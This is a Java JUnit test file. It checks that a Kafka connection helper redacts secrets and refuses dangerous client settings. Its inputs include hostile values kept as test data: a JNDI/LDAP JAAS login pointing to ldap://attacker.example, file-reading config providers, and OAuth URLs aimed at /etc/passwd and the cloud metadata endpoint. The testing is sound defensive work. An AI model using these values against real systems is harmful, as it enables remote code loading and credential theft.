package streambench.common;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class KafkaConnectionTest {
    private static final String CONN =
            "Endpoint=sb://my-ns.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=T0pS3cr3t=";

    @Test
    void plainBootstrapWithPassThroughProperties() {
        KafkaConnection kafka = KafkaConnection.fromKnobs(Knobs.of(Map.of(
                "KAFKA_BOOTSTRAP_SERVERS", "b1:9092,b2:9092",
                "KAFKA_CLIENT_SECURITY_PROTOCOL", "SASL_SSL",
                "KAFKA_CLIENT_SASL_JAAS_CONFIG", "x required password=\"pw\";")));
        assertThat(kafka.properties())
                .containsEntry("bootstrap.servers", "b1:9092,b2:9092")
                .containsEntry("security.protocol", "SASL_SSL")
                .containsEntry("sasl.jaas.config", "x required password=\"pw\";");
        assertThat(kafka.describe()).doesNotContain("pw\"").contains("b1:9092");
    }

    @Test
    void describeMasksEverySecretShapedClientPropertyButNotClassNames() {
        KafkaConnection kafka = KafkaConnection.fromKnobs(Knobs.of(Map.of(
                "KAFKA_BOOTSTRAP_SERVERS", "b1:9092",
                "KAFKA_CLIENT_SSL_KEYSTORE_KEY", "-----BEGIN PRIVATE KEY-----\nMIIEpemBody\n-----END PRIVATE KEY-----",
                "KAFKA_CLIENT_SSL_KEY_PASSWORD", "k3y-pass",
                "KAFKA_CLIENT_SSL_TRUSTSTORE_PASSWORD", "trust-pass",
                "KAFKA_CLIENT_KEY_SERIALIZER", "org.example.Keys")));
        assertThat(kafka.properties())
                .containsEntry(
                        "ssl.keystore.key", "-----BEGIN PRIVATE KEY-----\nMIIEpemBody\n-----END PRIVATE KEY-----");
        assertThat(kafka.describe())
                .doesNotContain("MIIEpemBody")
                .doesNotContain("k3y-pass")
                .doesNotContain("trust-pass")
                .contains("ssl.keystore.key=<redacted>")
                .contains("key.serializer=org.example.Keys");
    }

    @Test
    void eventHubsConnectionStringBecomesSaslPlain() {
        KafkaConnection kafka = KafkaConnection.fromKnobs(Knobs.of(Map.of("EVENTHUB_CONNECTION_STRING", CONN)));
        assertThat(kafka.bootstrapServers()).isEqualTo("my-ns.servicebus.windows.net:9093");
        assertThat(kafka.properties())
                .containsEntry("security.protocol", "SASL_SSL")
                .containsEntry("sasl.mechanism", "PLAIN");
        assertThat(kafka.properties().get("sasl.jaas.config"))
                .contains("username=\"$ConnectionString\"")
                .contains(CONN);
        assertThat(kafka.describe()).doesNotContain("T0pS3cr3t");
        assertThat(kafka.redact("could not connect using " + CONN)).doesNotContain("T0pS3cr3t");
    }

    @Test
    void clearErrors() {
        assertThatThrownBy(() -> KafkaConnection.fromKnobs(Knobs.of(Map.of())))
                .isInstanceOf(ConfigException.class)
                .hasMessageStartingWith("KAFKA_BOOTSTRAP_SERVERS is not set");
        assertThatThrownBy(() -> KafkaConnection.fromKnobs(
                        Knobs.of(Map.of("EVENTHUB_CONNECTION_STRING", "SharedAccessKey=zzzz"))))
                .hasMessageContaining("no Endpoint=sb://")
                .hasMessageNotContaining("zzzz");
        assertThatThrownBy(() -> KafkaConnection.fromKnobs(
                        Knobs.of(Map.of("EVENTHUB_CONNECTION_STRING", CONN, "KAFKA_BOOTSTRAP_SERVERS", "b:1"))))
                .hasMessageContaining("not both");
    }

    private static KafkaConnection connect(Map<String, String> env) {
        return KafkaConnection.fromKnobs(Knobs.of(env));
    }

    /** Each used to win over the connection string: Event Hubs' key sent in clear text, or to another host. */
    @ParameterizedTest
    @CsvSource({
        "KAFKA_CLIENT_SECURITY_PROTOCOL, SASL_PLAINTEXT",
        "KAFKA_CLIENT_BOOTSTRAP_SERVERS, elsewhere.example.com:9093",
        "KAFKA_CLIENT_SASL_MECHANISM, SCRAM-SHA-512",
        "KAFKA_CLIENT_SASL_JAAS_CONFIG, org.apache.kafka.common.security.plain.PlainLoginModule required;"
    })
    void eventHubsRefusesAPassThroughThatWouldReplaceItsEndpointOrLogin(String name, String value) {
        assertThatThrownBy(() -> connect(Map.of("EVENTHUB_CONNECTION_STRING", CONN, name, value)))
                .isInstanceOf(ConfigException.class)
                .hasMessageStartingWith("EVENTHUB_CONNECTION_STRING cannot be combined with " + name + ", since")
                .hasMessageNotContaining("T0pS3cr3t")
                .satisfies(e -> assertThat(Secrets.redactText(e.getMessage()))
                        .as("as printed")
                        .isEqualTo(e.getMessage()));
    }

    @Test
    void eventHubsNamesEveryClashingVariableAndKeepsHarmlessOnes() {
        assertThatThrownBy(() -> connect(Map.of(
                        "EVENTHUB_CONNECTION_STRING", CONN,
                        "KAFKA_CLIENT_SECURITY_PROTOCOL", "PLAINTEXT",
                        "KAFKA_CLIENT_SASL_MECHANISM", "PLAIN")))
                .hasMessageContaining("KAFKA_CLIENT_SASL_MECHANISM, KAFKA_CLIENT_SECURITY_PROTOCOL");
        KafkaConnection kafka = connect(Map.of(
                "EVENTHUB_CONNECTION_STRING", CONN, "KAFKA_CLIENT_SSL_ENDPOINT_IDENTIFICATION_ALGORITHM", "https"));
        assertThat(kafka.properties())
                .containsEntry("security.protocol", "SASL_SSL")
                .containsEntry("ssl.endpoint.identification.algorithm", "https");
    }

    @Test
    void aPassThroughBootstrapBesideKafkaBootstrapServersIsRefused() {
        assertThatThrownBy(() -> connect(
                        Map.of("KAFKA_BOOTSTRAP_SERVERS", "b1:9092", "KAFKA_CLIENT_BOOTSTRAP_SERVERS", "other:9092")))
                .isInstanceOf(ConfigException.class)
                .hasMessageContaining("KAFKA_CLIENT_BOOTSTRAP_SERVERS")
                .hasMessageContaining("KAFKA_BOOTSTRAP_SERVERS");
    }

    /** CVE-2023-25194 and CVE-2025-27818: what Kafka 3.9.1 and 4.0 refuse by default, the 3.2 client still runs. */
    @ParameterizedTest
    @CsvSource({"com.sun.security.auth.module.JndiLoginModule", "com.sun.security.auth.module.LdapLoginModule"})
    void aJaasLoginThatLooksNamesUpInJndiOrLdapIsRefused(String module) {
        String jaas = module + " required user.provider.url=\"ldap://attacker.example/o=x\" password=\"jaas-pw\";";
        assertThatThrownBy(() ->
                        connect(Map.of("KAFKA_BOOTSTRAP_SERVERS", "b:9092", "KAFKA_CLIENT_SASL_JAAS_CONFIG", jaas)))
                .isInstanceOf(ConfigException.class)
                .hasMessageStartingWith("KAFKA_CLIENT_SASL_JAAS_CONFIG names the login module " + module)
                .hasMessageNotContaining("jaas-pw")
                .hasMessageNotContaining("attacker");
    }

    /** CVE-2024-31141: a config provider reads any file, directory or environment variable into a setting. */
    @ParameterizedTest
    @CsvSource({
        "KAFKA_CLIENT_CONFIG_PROVIDERS, file",
        "KAFKA_CLIENT_CONFIG_PROVIDERS_FILE_CLASS, org.apache.kafka.common.config.provider.FileConfigProvider"
    })
    void configProvidersAreRefused(String name, String value) {
        assertThatThrownBy(() -> connect(Map.of("KAFKA_BOOTSTRAP_SERVERS", "b:9092", name, value)))
                .isInstanceOf(ConfigException.class)
                .hasMessageStartingWith(name + ": config providers are refused");
    }

    /** CVE-2025-27817: as Kafka 4.0's oauthbearer allowed.urls property, no URL is allowed unless listed. */
    @ParameterizedTest
    @CsvSource({
        "KAFKA_CLIENT_SASL_OAUTHBEARER_TOKEN_ENDPOINT_URL, file:///etc/passwd",
        "KAFKA_CLIENT_SASL_OAUTHBEARER_JWKS_ENDPOINT_URL, http://169.254.169.254/latest/meta-data"
    })
    void anOAuthEndpointUrlMustBeAllowedExplicitly(String name, String url) {
        assertThatThrownBy(() -> connect(Map.of("KAFKA_BOOTSTRAP_SERVERS", "b:9092", name, url)))
                .isInstanceOf(ConfigException.class)
                .hasMessageStartingWith(name + "=" + url + " is not in KAFKA_OAUTH_ALLOWED_URLS");
        assertThatThrownBy(() -> connect(Map.of(
                        "KAFKA_BOOTSTRAP_SERVERS",
                        "b:9092",
                        name,
                        url,
                        "KAFKA_OAUTH_ALLOWED_URLS",
                        "https://login.example.com/token")))
                .hasMessageContaining("is not in KAFKA_OAUTH_ALLOWED_URLS");
        assertThat(connect(Map.of(
                                "KAFKA_BOOTSTRAP_SERVERS",
                                "b:9092",
                                name,
                                url,
                                "KAFKA_OAUTH_ALLOWED_URLS",
                                "https://login.example.com/token, " + url))
                        .properties())
                .containsValue(url);
    }
}
